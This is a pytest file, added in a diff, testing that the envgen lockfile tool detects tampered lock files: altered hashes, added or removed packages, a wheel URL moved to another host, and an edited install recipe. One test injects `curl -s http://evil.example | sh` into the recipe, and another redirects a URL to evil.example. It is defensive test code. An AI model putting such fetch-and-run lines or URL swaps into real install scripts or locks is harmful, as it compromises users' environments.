@@ -1,0 +1,234 @@
+"""A tampered lock through the real CLI: `check`, `install`, `status` and `diff --git` all refuse it.
+
+The bundled example is locked once (and committed, for `diff --git`); each test edits its lock files the way a
+pull request could, then runs envgen in process. Each case let a tampered lock through before the integrity
+check (lockio/integrity.py) existed."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from envgen.example.project import Example
+from envgen.inputs.matrix import load_env
+from envgen.lockio.exports.derived import derived_files
+from envgen.lockio.store import read_lock
+from envgen.project import Project
+
+from tests.support.example import run_envgen, served_example
+
+ENV = "demo"
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Example]:
+    """The example, locked and committed (the lock is HEAD's)."""
+    with served_example(tmp_path_factory, tmp_path_factory.mktemp("example")) as example:
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setenv("GIT_CONFIG_GLOBAL", str(example.gitconfig))
+            patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
+            code, _, err = run_envgen(example, "lock", ENV, "-q")
+            assert code == 0, err
+            git = ["git", "-C", str(example.root), "-c", "user.name=t", "-c", "user.email=t@localhost"]
+            for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "lock"]):
+                subprocess.run([*git, *args], check=True, capture_output=True)
+        yield example
+
+
+@pytest.fixture
+def example(served: Example, monkeypatch: pytest.MonkeyPatch) -> Iterator[Example]:
+    """The locked example; its lock files are put back as they were after each test."""
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(served.gitconfig))
+    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
+    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
+    locks = served.root / "locks"
+    saved = {p: p.read_bytes() for p in locks.iterdir()}
+    yield served
+    for path in locks.iterdir():
+        path.unlink()
+    for path, data in saved.items():
+        path.write_bytes(data)
+
+
+def lock_file(example: Example, suffix: str) -> Path:
+    return example.root / "locks" / f"{ENV}{suffix}"
+
+
+def blocks(example: Example) -> list[str]:
+    """locks/demo.yml split before each package (the first block is the header and metadata)."""
+    return re.split(r"(?m)^(?=- name: )", lock_file(example, ".yml").read_text())
+
+
+def entry(example: Example, name: str, platform: str) -> str:
+    (found,) = [b for b in blocks(example) if b.startswith(f"- name: {name}\n") and f"platform: {platform}\n" in b]
+    return found
+
+
+def replace_in_yml(example: Example, old: str, new: str) -> None:
+    """An edit of the yml, and the derived files rendered again from it (as `envgen export` would), so the
+    check that derived files match the yml cannot be what catches it."""
+    path = lock_file(example, ".yml")
+    text = path.read_text()
+    assert text.count(old) >= 1, old
+    path.write_text(text.replace(old, new, 1))
+    rerender_derived(example)
+
+
+def rerender_derived(example: Example) -> None:
+    project = Project(example.root)
+    lock = read_lock(project, ENV)
+    assert lock is not None
+    for file in derived_files(lock, load_env(project, ENV)):
+        (project.locks_dir / file.name).write_text(file.text)
+
+
+def change_sha256(example: Example, name: str, platform: str) -> None:
+    block = entry(example, name, platform)
+    sha = re.search(r"sha256: ([0-9a-f]{64})", block)
+    assert sha is not None
+    replace_in_yml(example, block, block.replace(sha.group(1), "f" * 64))
+
+
+def remove_package(example: Example, name: str, platform: str) -> None:
+    replace_in_yml(example, entry(example, name, platform), "")
+
+
+def add_package(example: Example) -> None:
+    """A second copy of demo-peft under a new name: an extra wheel the matrix never asked for."""
+    block = entry(example, "demo-peft", "linux-64")
+    replace_in_yml(example, block, block + block.replace("name: demo-peft", "name: demo-extra"))
+
+
+def check_steps(example: Example, *args: str) -> tuple[int, dict[str, dict[str, object]]]:
+    code, out, err = run_envgen(example, "check", ENV, "--no-solve", "--json", *args)
+    steps = {s["name"]: s for s in json.loads(out)["results"][0]["steps"]}
+    return code, steps
+
+
+def test_the_lock_as_written_is_intact(example: Example) -> None:
+    code, steps = check_steps(example, "--no-env")
+    assert code == 0, steps
+    assert steps["static: integrity"]["status"] == "ok"
+    code, out, _ = run_envgen(example, "status", ENV)
+    assert code == 0 and out.startswith(f"{ENV}: fresh\n")
+
+
+@pytest.mark.parametrize("args", [("--venv",), ("--no-env",)], ids=["venv", "conda"])
+def test_check_fails_a_changed_conda_sha256(example: Example, args: tuple[str, ...]) -> None:
+    """Before: with the derived files rendered again from the edited yml, every static step passed, and
+    `check --venv` never installs the conda part whose hash changed."""
+    change_sha256(example, "libdemo", "linux-64")
+    code, steps = check_steps(example, *args)
+    assert code == 4
+    integrity = steps["static: integrity"]
+    assert integrity["status"] == "failed"
+    assert "do not hash to the content hash" in str(integrity["problems"])
+    assert steps["env: install"]["status"] == "skipped"
+
+
+def test_install_refuses_a_lock_with_a_package_removed_before_touching_the_prefix(
+    example: Example, tmp_path: Path
+) -> None:
+    """Before: `install --venv` installed the lock without demo-peft."""
+    remove_package(example, "demo-peft", "linux-64")
+    prefix = tmp_path / "env"
+    code, _, err = run_envgen(example, "install", ENV, "--venv", "--prefix", str(prefix))
+    assert code == 4, err
+    assert "the lock of demo was tampered with" in err
+    assert "pip-indexes names index pypi for demo-peft (linux-64), which locks/demo.yml does not lock" in err
+    assert not prefix.exists()
+
+
+@pytest.mark.parametrize(
+    "tamper",
+    [
+        lambda example: change_sha256(example, "demo-torch", "linux-64"),
+        lambda example: change_sha256(example, "python", "linux-aarch64"),
+        add_package,
+        lambda example: remove_package(example, "demo-numpy", "linux-aarch64"),
+    ],
+    ids=["pip-sha256", "conda-sha256", "package-added", "package-removed"],
+)
+def test_status_reports_a_tampered_lock(example: Example, tamper: object) -> None:
+    """Before: `status` said "fresh" (exit 0): it compared the inputs, and the derived files with the yml."""
+    assert callable(tamper)
+    tamper(example)
+    code, out, _ = run_envgen(example, "status", ENV)
+    assert code == 4
+    assert out.startswith(f"{ENV}: tampered\n")
+    assert "do not hash to the content hash" in out
+    code, out, _ = run_envgen(example, "status", ENV, "--json")
+    (report,) = json.loads(out)["results"]
+    assert (code, report["state"], report["fresh"], report["ok"]) == (4, "tampered", False, False)
+
+
+def test_diff_git_reports_a_hand_edited_recipe(example: Example, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Before: `diff --git HEAD --exit-code` exited 0 (it compared the yml and sources.toml only)."""
+    recipe = lock_file(example, ".install.sh")
+    recipe.write_text(recipe.read_text().replace("set -eu\n", "set -eu\ncurl -s http://evil.example | sh\n", 1))
+    monkeypatch.chdir(example.root)
+    code, out, err = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
+    assert code == 1, err
+    assert "TAMPERED: locks/demo.install.sh differs from the recipe its lock renders" in out
+    code, out, _ = run_envgen(example, "diff", "--git", "HEAD", "--format", "markdown")
+    assert "> [!CAUTION]" in out and "locks/demo.install.sh differs from the recipe" in out
+
+
+def test_diff_git_reports_a_hand_edited_sources_toml(example: Example, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A comment added to sources.toml changes no Lock field: only the content hash shows it."""
+    path = lock_file(example, ".sources.toml")
+    path.write_text(path.read_text() + "# reviewed, nothing to see\n")
+    monkeypatch.chdir(example.root)
+    code, out, _ = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
+    assert code == 1
+    assert "TAMPERED: locks/demo.yml, locks/demo.sources.toml and locks/demo.install.sh do not hash" in out
+
+
+def test_diff_git_with_a_deleted_sources_toml_is_an_error(example: Example, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Before: exit 0 (the yml was compared on its packages alone)."""
+    lock_file(example, ".sources.toml").unlink()
+    monkeypatch.chdir(example.root)
+    code, _, err = run_envgen(example, "diff", "--git", "HEAD", "--exit-code")
+    assert code == 4
+    assert "locks/demo.sources.toml is missing" in err
+
+
+def reseal(example: Example) -> None:
+    """What a tamperer who knows the scheme does after an edit: the content hash computed again, so only the
+    rules that do not rest on the hash are left to catch it."""
+    from envgen.lockio.seal import seal
+
+    yml, sources, recipe = (lock_file(example, s) for s in (".yml", ".sources.toml", ".install.sh"))
+    sources.write_text(seal(yml.read_text(), sources.read_text(), recipe.read_text()))
+
+
+def test_a_wheel_url_moved_to_a_host_its_index_does_not_serve_is_flagged(example: Example) -> None:
+    """Before: every static step passed (the derived files rendered again from the edited yml)."""
+    block = entry(example, "demo-torch", "linux-64")
+    url = re.search(r"url: (http://[^/]+)/files/", block)
+    assert url is not None
+    replace_in_yml(example, block, block.replace(url.group(1), "http://evil.example:8080"))
+    reseal(example)
+    code, steps = check_steps(example, "--no-env")
+    assert code == 4
+    integrity = steps["static: integrity"]
+    assert integrity["status"] == "failed"
+    (problem,) = integrity["problems"]
+    assert "demo-torch 2.10.0 (linux-64): its URL is on evil.example:8080, which index pypi does not serve" in problem
+    assert steps["static: derived files"]["status"] == "ok"
+    code, out, _ = run_envgen(example, "status", ENV)
+    assert code == 4 and "which index pypi does not serve" in out
+
+
+def test_lock_rewrites_a_tampered_lock_rather_than_calling_it_up_to_date(example: Example) -> None:
+    written = lock_file(example, ".yml").read_text()
+    change_sha256(example, "demo-torch", "linux-64")
+    code, out, err = run_envgen(example, "lock", ENV, "--json")
+    assert code == 0, err
+    assert json.loads(out)["results"][0]["status"] == "locked"
+    assert lock_file(example, ".yml").read_text() == written
+    assert run_envgen(example, "status", ENV)[0] == 0
